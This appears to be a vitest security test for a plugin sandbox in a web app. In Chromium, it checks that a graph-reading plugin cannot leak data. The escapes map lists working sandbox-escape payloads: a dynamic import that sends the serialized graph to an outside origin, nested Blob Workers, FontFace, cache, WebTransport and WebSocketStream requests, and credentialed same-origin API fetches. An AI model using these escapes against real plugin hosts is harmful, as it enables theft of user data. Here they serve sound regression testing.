import { mkdirSync, writeFileSync } from 'node:fs';
import { createServer, type IncomingMessage, type Server } from 'node:http';
import { join } from 'node:path';
import {
  type Browser,
  type BuiltPage,
  freePort,
  launchChromium,
  serveBuiltPage,
} from '@repertoire/testing';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';

// The escapes a `graph.read`-only plugin once used to leak the graph out of the Worker sandbox
// (issue 13). Each runs in real Chromium against a real loopback listener, which must hear nothing:
// the browser, not a patched global, has to stop them.

/** A loopback HTTP server that records every request it gets (and answers like a script host). */
interface Listener {
  readonly origin: string;
  readonly heard: string[];
  close(): Promise<void>;
}

async function listen(): Promise<Listener> {
  const heard: string[] = [];
  const server: Server = createServer((request: IncomingMessage, response) => {
    heard.push(`${request.method} ${request.url}`);
    response.writeHead(200, {
      'content-type': 'text/javascript',
      'access-control-allow-origin': '*',
    });
    response.end('export const leaked = true;');
  });
  // A WebSocket handshake is an HTTP upgrade request: heard, then hung up on.
  server.on('upgrade', (request: IncomingMessage, socket) => {
    heard.push(`UPGRADE ${request.url}`);
    socket.destroy();
  });
  const port = await freePort();
  await new Promise<void>((resolve) => server.listen(port, '127.0.0.1', resolve));
  return {
    origin: `http://127.0.0.1:${port}`,
    heard,
    close: () => new Promise((resolve) => server.close(() => resolve())),
  };
}

const manifest = (
  id: string,
  commands: string[],
  permissions: string[],
  extra: Record<string, unknown> = {},
) => ({
  name: `@third/${id}`,
  repertoire: {
    id,
    displayName: id,
    version: '1.0.0',
    engines: { repertoire: '^1.0.0' },
    main: `./${id}.js`,
    activationEvents: commands.map((c) => `onCommand:${c}`),
    permissions,
    ...extra,
    contributes: { commands: commands.map((c) => ({ id: c, title: c })) },
  },
});

/** Each escape, as plugin code: an expression of a promise that settles when the attempt has. */
const escapes: Record<string, string> = {
  'escape.dynamicImport': `import(OUT + '/import?d=' + encodeURIComponent(JSON.stringify(graph)))`,
  'escape.nestedWorker': `new Promise((resolve, reject) => {
      const code = "fetch(" + JSON.stringify(OUT + '/nested-worker') + ").then(() => postMessage('reached'), (e) => postMessage('blocked: ' + e));";
      const worker = new Worker(URL.createObjectURL(new Blob([code], { type: 'text/javascript' })));
      worker.onmessage = (e) => (e.data === 'reached' ? resolve() : reject(new Error(e.data)));
      worker.onerror = () => reject(new Error('the nested Worker did not start'));
    })`,
  'escape.nestedWorkerApi': `new Promise((resolve, reject) => {
      const code = "fetch(new URL('/api/me', " + JSON.stringify(PAGE) + "), { credentials: 'include' }).then(() => postMessage('reached'), (e) => postMessage('blocked: ' + e));";
      const worker = new Worker(URL.createObjectURL(new Blob([code], { type: 'text/javascript' })));
      worker.onmessage = (e) => (e.data === 'reached' ? resolve() : reject(new Error(e.data)));
      worker.onerror = () => reject(new Error('the nested Worker did not start'));
    })`,
  'escape.cacheAdd': `self.caches.open('leak').then((cache) => cache.add(OUT + '/cache'))`,
  'escape.fontFace': `new FontFace('leak', 'url(' + OUT + '/font)').load()`,
  'escape.webTransport': `new WebTransport(OUT.replace('http:', 'https:') + '/webtransport').ready`,
  'escape.webSocketStream': `new WebSocketStream(OUT.replace('http:', 'ws:') + '/websocket-stream').opened`,
  'escape.prototypeFetch': `WorkerGlobalScope.prototype.fetch.call(self, OUT + '/prototype-fetch')`,
  'escape.sameOriginApi': `WorkerGlobalScope.prototype.fetch.call(self, new URL('/api/me', PAGE), { credentials: 'include' })`,
  'escape.sameOriginFile': `WorkerGlobalScope.prototype.fetch.call(self, new URL('/plugins/third.escaper.js', PAGE)).then((r) => r.ok ? r.text() : Promise.reject(new Error('status ' + r.status)))`,
};

/**
 * The escaping plugin: each command tries one escape and answers `reached`, `blocked: …` or
 * `no answer` (some browsers never settle a refused attempt), never throwing.
 */
const escaperSource = (out: string, page: string) => `
const OUT = ${JSON.stringify(out)};
const PAGE = ${JSON.stringify(page)};
const attempt = (start) => {
  let work;
  try { work = Promise.resolve(start()); } catch (error) { return Promise.resolve('blocked: ' + error); }
  return Promise.race([
    work.then(() => 'reached', (error) => 'blocked: ' + error),
    new Promise((resolve) => setTimeout(() => resolve('no answer'), 700)),
  ]);
};
export async function activate(ctx) {
  const graph = await ctx.graph.entities();
${Object.entries(escapes)
  .map(
    ([id, expression]) =>
      `  ctx.subscriptions.push(ctx.commands.registerCommand(${JSON.stringify(id)}, () => attempt(() => ${expression})));`,
  )
  .join('\n')}
  ctx.subscriptions.push(ctx.commands.registerCommand('escape.where', () => [self.constructor.name, String(self.origin)]));
}`;

/** A plugin with `network`: it may reach the origin it declares, and no other. */
const networkSource = (allowed: string, other: string) => `
const attempt = (url) => Promise.race([
  fetch(url).then((r) => r.text()).then((text) => 'reached: ' + text, (error) => 'blocked: ' + error),
  new Promise((resolve) => setTimeout(() => resolve('no answer'), 700)),
]);
export function activate(ctx) {
  ctx.subscriptions.push(
    ctx.commands.registerCommand('net.declared', () => attempt(${JSON.stringify(`${allowed}/declared`)})),
    ctx.commands.registerCommand('net.undeclared', () => attempt(${JSON.stringify(`${other}/undeclared`)})),
  );
}`;

describe('the plugin sandbox holds in Chromium: a plugin without network reaches nobody', () => {
  let outside: Listener;
  let declared: Listener;
  let page: BuiltPage;
  let browser: Browser;
  let tab: Awaited<ReturnType<Browser['newPage']>>;
  const run = (id: string) =>
    tab.evaluate(
      (command) =>
        (
          window as never as { sandboxPage: { run(...a: unknown[]): Promise<unknown> } }
        ).sandboxPage.run(command),
      id,
    ) as Promise<{ ok: boolean; value?: unknown; message?: string }>;

  beforeAll(async () => {
    outside = await listen();
    declared = await listen();
    const port = await freePort();
    // The page's `/api/*` goes to the outside listener too: a same-origin API call with the
    // member's cookies is exactly what the sandbox must not make.
    page = await serveBuiltPage({
      root: join(import.meta.dirname, 'browser-page'),
      apiOrigin: outside.origin,
      port,
      extra: (dir) => {
        mkdirSync(join(dir, 'plugins'), { recursive: true });
        writeFileSync(
          join(dir, 'plugins', 'third.escaper.js'),
          escaperSource(outside.origin, `http://127.0.0.1:${port}/`),
        );
        writeFileSync(
          join(dir, 'plugins', 'third.net.js'),
          networkSource(declared.origin, outside.origin),
        );
      },
    });
    browser = await launchChromium();
    tab = await browser.newPage();
    await tab.goto(page.url);
    await tab.waitForFunction(() => document.title === 'ready');
    await tab.evaluate(
      (manifests) =>
        (window as never as { sandboxPage: { add(m: unknown[]): Promise<void> } }).sandboxPage.add(
          manifests,
        ),
      [
        manifest('third.escaper', [...Object.keys(escapes), 'escape.where'], ['graph.read']),
        manifest('third.net', ['net.declared', 'net.undeclared'], ['network'], {
          networkOrigins: [declared.origin],
        }),
      ],
    );
  }, 120_000);
  afterAll(async () => {
    await browser?.close();
    await page?.close();
    await outside?.close();
    await declared?.close();
  });

  it('runs the plugin in a Worker of an opaque origin', async () => {
    expect(await run('escape.where')).toEqual({
      ok: true,
      value: ['DedicatedWorkerGlobalScope', 'null'],
    });
  });

  it.each(Object.keys(escapes))('%s reaches nothing', async (id) => {
    const before = outside.heard.length;
    const outcome = await run(id);
    expect(outcome.ok).toBe(true);
    expect(outcome.value).not.toBe('reached');
    // Give a late request (a Worker's, a font's) time to arrive before listening is judged.
    await new Promise((resolve) => setTimeout(resolve, 300));
    expect(outside.heard.slice(before)).toEqual([]);
  });

  it('a plugin with network reaches the origin it declares and nothing else', async () => {
    expect(await run('net.declared')).toEqual({
      ok: true,
      value: 'reached: export const leaked = true;',
    });
    expect(declared.heard).toEqual(['GET /declared']);
    const before = outside.heard.length;
    expect((await run('net.undeclared')).value).not.toMatch(/^reached/);
    await new Promise((resolve) => setTimeout(resolve, 300));
    expect(outside.heard.slice(before)).toEqual([]);
  });

  it('the outside listener heard nothing from the whole suite', () => {
    expect(outside.heard).toEqual([]);
  });
});
